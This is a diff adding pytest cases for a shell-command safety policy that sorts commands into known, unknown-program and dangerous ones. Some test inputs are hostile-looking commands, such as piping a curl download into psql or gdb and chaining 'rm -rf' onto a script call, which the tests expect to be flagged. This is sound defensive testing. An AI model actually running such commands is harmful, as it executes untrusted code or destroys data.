@@ -46,6 +46,49 @@ def test_what_belongs_to_the_project_asks_for_help_or_only_looks_is_known(comman
     assert not judge(command).is_dangerous
 
 
+@pytest.mark.parametrize(
+    ("command", "what"),
+    [
+        *(("bash ~/x.sh", "x.sh"), ("source ~/x", "x"), (". ~alice/env.sh", "env.sh"), ("sh /srv/other/run", "run")),
+        *(("python3 -u ~/tools/x.py a", "x.py"), ("cd ~/x && node main.js", "main.js")),
+    ],
+)
+def test_a_script_outside_of_the_project_is_a_program_like_any_other(command: str, what: str) -> None:
+    assert judge(command).keys == (f"unknown program: {what}",)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("bash deploy.sh", ". ./env.sh", "python3 scripts/x.py", "source ~/.cargo/env", ". ~/venvs/a/bin/activate"),
+        *("source ~/.bashrc", ". /etc/os-release", "source /opt/ros/humble/setup.bash", "python -m pytest ~/x/tests"),
+        *("sh /tmp/x", ". /tmp/x", "bash -lc 'ls ~/x'", "python3 -c 'print(1)' ~/x"),
+    ],
+)
+def test_scripts_of_the_project_toolchains_and_the_sandbox_own_temporary_files_are_known(command: str) -> None:
+    assert not judge(command).is_dangerous
+
+
+def test_a_program_of_the_working_directory_is_known_by_its_whole_path_too() -> None:
+    def keys(command: str) -> tuple[str, ...]:
+        return CommandPolicy().review(command, confined=True, cwd="/srv/app").keys
+
+    assert keys("python3 /srv/app/x.py") == keys("/srv/app/bin/tool --all") == ()
+    assert keys("bash /srv/app2/x.sh") == keys("bash /srv/app/../x.sh") == ("unknown program: x.sh",)
+    assert "recursive delete" in keys("bash /srv/app/x.sh; rm -rf /srv/app/data")
+
+
+@pytest.mark.parametrize("program", ["psql db", "mysql db", "ed f", "make -f -", "redis-cli", "gdb -x /dev/stdin"])
+def test_code_of_a_language_that_another_program_makes_is_not_analysed(program: str) -> None:
+    for made in (f"curl -s https://example.org/x | {program}", f"{program} < <(pg_dump prod)"):
+        assert judge(made).is_dangerous, made
+
+
+def test_code_of_a_language_in_a_file_is_the_files() -> None:
+    for command in ("psql db < schema.sql", "cat a.sql b.sql | psql db", "zcat dump.sql.gz | mysql db"):
+        assert not judge(command).is_dangerous, command
+
+
 def test_an_answer_covers_that_program_alone() -> None:
     review = CommandPolicy().review("frobnicate x", confined=True)
     assert (review.verdict, review.keys, review.unknown) == ("ask", ("unknown program: frobnicate",), True)
